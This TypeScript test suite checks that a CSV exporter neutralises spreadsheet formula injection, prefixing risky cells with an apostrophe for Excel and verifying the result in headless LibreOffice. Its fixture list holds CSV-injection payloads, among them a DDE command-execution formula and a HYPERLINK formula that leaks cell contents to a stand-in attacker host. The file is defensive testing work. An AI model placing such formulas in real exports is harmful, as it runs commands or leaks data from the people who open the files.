import { expect } from 'chai';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { neutralise, toCsv, writtenColumns } from '../../src/table/to-csv.js';
import type { Table } from '../../src/table/table.js';
import { statusSymbols } from '../../src/text/status-symbols.js';
import { numbers, periods, tableOf, texts } from '../support/make-table.js';
import { readByHand } from './read-by-hand.js';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const FORMULAS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+51 999 999 999',
  '-5',
  '@SUM(A1:A9)',
  '=HYPERLINK("https://malo.example?x="&A1,"clic")',
  '-',
  '=',
];

function write(table: Table, forExcel: boolean): Promise<string> {
  const columns = writtenColumns(table, (measure) => `${measure}_estado`, statusSymbols);
  return toCsv(columns, table.length, { forExcel, breathe: () => Promise.resolve() });
}

async function cells(table: Table, forExcel: boolean): Promise<string[][]> {
  const csv = (await write(table, forExcel)).replace(/^\ufeff/, '');
  const { data } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' });
  return data.slice(0, -1);
}

/** Text that a spreadsheet could run, beside negative numbers, which it may not touch. */
const dangerous = tableOf(
  texts('=nombre', FORMULAS),
  numbers(
    '-casos',
    FORMULAS.map((_, row) => -row - 0.5),
  ),
  periods(
    'anio',
    FORMULAS.map(() => '2024'),
  ),
);

describe('formulas in a CSV', () => {
  for (const start of STARTS) {
    it(`[SEC-08] a text that starts with ${JSON.stringify(start)} gets an apostrophe`, () => {
      expect(neutralise(`${start}1+1`)).to.equal(`'${start}1+1`);
      expect(neutralise(`1${start}1`)).to.equal(`1${start}1`);
    });
  }

  it('[SEC-08] are neutralised for Excel in text, in the header too, and nowhere else', async () => {
    const [header, ...rows] = await cells(dangerous, true);
    expect(header).to.deep.equal(["'=nombre", "'-casos", 'anio']);
    expect(rows).to.deep.equal(FORMULAS.map((text, row) => [`'${text}`, String(-row - 0.5), '2024']));
  });

  it('[SEC-08] stay as they are in the plain CSV, which is for programs', async () => {
    expect(await cells(dangerous, false)).to.deep.equal([
      ['=nombre', '-casos', 'anio'],
      ...FORMULAS.map((text, row) => [text, String(-row - 0.5), '2024']),
    ]);
  });

  it('[SEC-08] −5 stays −5 in every column of numbers, also in scientific notation', async () => {
    const table = tableOf(numbers('n', [-5, -0.001, -1e21, 1e-7, -0]));
    expect((await cells(table, true)).flat()).to.deep.equal(['n', '-5', '-0.001', '-1e+21', '1e-7', '0']);
  });

  it('[SEC-08] no cell of text in the file for Excel starts as one, whatever it was', async () => {
    const anything = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom(...STARTS), fc.string()).map(([start, rest]) => start + rest),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(anything, { minLength: 1 }), async (words) => {
        const [, ...rows] = await cells(tableOf(texts('a', words), texts('b', words)), true);
        rows.forEach(([cell = ''], row) => {
          expect(STARTS).not.to.include(cell.charAt(0));
          const word = words[row] ?? '';
          expect(cell).to.equal(STARTS.includes(word.charAt(0)) ? `'${word}` : word);
        });
      }),
    );
  });

  it('[SEC-08] are as a reader written by hand finds them: text with an apostrophe, numbers untouched', async () => {
    const [mark, ...rest] = await write(dangerous, true);
    expect(mark).to.equal('\ufeff');
    expect(readByHand(rest.join(''))).to.deep.equal([
      ["'=nombre", "'-casos", 'anio'],
      ...FORMULAS.map((text, row) => [`'${text}`, String(-row - 0.5), '2024']),
    ]);
  });

  it('the file for Excel starts with a byte order mark, so that «ñ» is read; the plain one does not', async () => {
    const table = tableOf(texts('año', ['Ñuñoa']));
    expect(await write(table, true)).to.match(/^\ufeffaño\r\n/);
    expect(await write(table, false)).to.match(/^año\r\n/);
  });
});

const OFFICE = (process.env['PATH'] ?? '')
  .split(':')
  .flatMap((folder) => [join(folder, 'libreoffice'), join(folder, 'soffice')])
  .find((path) => existsSync(path));

const suite = OFFICE === undefined ? describe.skip : describe;

suite(
  `the file for Excel in a spreadsheet${OFFICE === undefined ? ' (libreoffice is not here)' : ''}`,
  () => {
    it('[SEC-08] opens with no formula and the same values', async () => {
      const folder = mkdtempSync(join(tmpdir(), 'obs-csv-'));
      try {
        writeFileSync(join(folder, 'datos.csv'), await write(dangerous, true));
        const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
        const filter = '--infilter=CSV:44,34,76,1';
        const args = [profile, '--headless', filter, '--convert-to', 'fods', '--outdir', folder];
        execFileSync(OFFICE ?? '', [...args, join(folder, 'datos.csv')], {
          stdio: 'ignore',
          timeout: 120_000,
        });
        const sheet = readFileSync(join(folder, 'datos.fods'), 'utf8');
        expect(sheet.match(/table:formula=/g) ?? []).to.have.length(0);
        const numeric = [...sheet.matchAll(/office:value-type="float" office:value="(-[^"]+)"/g)];
        expect(numeric.map(([, value]) => Number(value))).to.deep.equal(FORMULAS.map((_, row) => -row - 0.5));
        const shown = [...sheet.matchAll(/<text:p>([^<]*)<\/text:p>/g)].map(([, text = '']) =>
          // Some versions write an apostrophe as it is, some as XML allows it to be written.
          text.replace(/&apos;/g, "'"),
        );
        expect(shown).to.include("'-5").and.to.include("'+51 999 999 999");
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
    }).timeout(150_000);
  },
);
